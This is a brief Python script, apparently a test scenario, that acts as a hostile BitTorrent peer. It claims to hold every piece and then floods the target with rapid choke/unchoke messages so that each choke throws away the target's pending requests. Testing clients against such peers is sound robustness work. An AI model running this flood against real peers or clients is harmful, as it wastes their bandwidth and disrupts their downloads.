"""A peer without the fast extension that has everything unchokes and chokes again as fast as the target reads; each choke discards all requests."""

import threading

from attacker import BITFIELD, Attacker, Link, extended_handshake, message

CHOKED_AND_UNCHOKED = bytes([0, 0, 0, 1, 1, 0, 0, 0, 1, 0]) * 50
# BEP 10 and BEP 52.
RESERVED = bytes([0, 0, 0, 0, 0, 0x10, 0, 0x10])

attacker = Attacker()


def everything() -> bytes:
    """A bit for each piece; spare bits are zero."""
    whole, rest = divmod(attacker.pieces, 8)
    last = bytes([0xFF << (8 - rest) & 0xFF]) if rest else b""
    return b"\xff" * whole + last


def read(link: Link) -> None:
    try:
        while len(link.socket.recv(1 << 16)):
            attacker.did["reads"] += 1
    except OSError:
        pass


def behave(link: Link) -> None:
    link.hello = link.hello[:20] + RESERVED + link.hello[28:]
    link.greet()
    link.socket.sendall(message(BITFIELD, everything()) + extended_handshake(b"d1:mde4:reqqi2000ee"))
    threading.Thread(target=read, args=(link,), daemon=True).start()
    link.flood(lambda: CHOKED_AND_UNCHOKED, "times 50 chokes")


attacker.listen(behave)
attacker.dial(behave, 3)
attacker.live()
